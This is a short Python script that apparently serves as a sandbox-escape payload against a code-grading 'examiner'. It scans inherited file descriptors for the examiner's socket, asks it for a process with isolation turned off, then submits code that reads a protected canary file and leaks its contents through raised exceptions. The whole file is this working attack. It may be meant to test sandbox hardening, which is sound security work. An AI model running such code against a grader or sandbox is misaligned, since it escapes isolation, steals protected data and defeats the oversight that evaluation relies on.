"""Asks the examiner, on whatever socket it may listen, for a process that isn't isolated, and uses it."""

import json
import socket
import struct

request = {"limits": {"seconds": 9.0, "memory_bytes": 1 << 32, "file_bytes": 1 << 24, "files": 64}, "isolate": False}
code = "raise ValueError(open('@CANARY@').read())"
for descriptor in range(3, 4096):
    ours, theirs = socket.socketpair()
    try:
        examiner = socket.socket(fileno=descriptor)
        socket.send_fds(examiner, [json.dumps(request).encode()], [theirs.fileno()])
    except OSError:
        continue
    finally:
        theirs.close()
    head = json.dumps({"tuple": ["answer.py", code]}).encode()
    ours.settimeout(1)
    try:
        ours.sendall(struct.pack(">Q", len(head)) + head)
        said = ours.recv(1 << 16) + ours.recv(1 << 16)
    except OSError:
        continue
    raise ValueError(said)
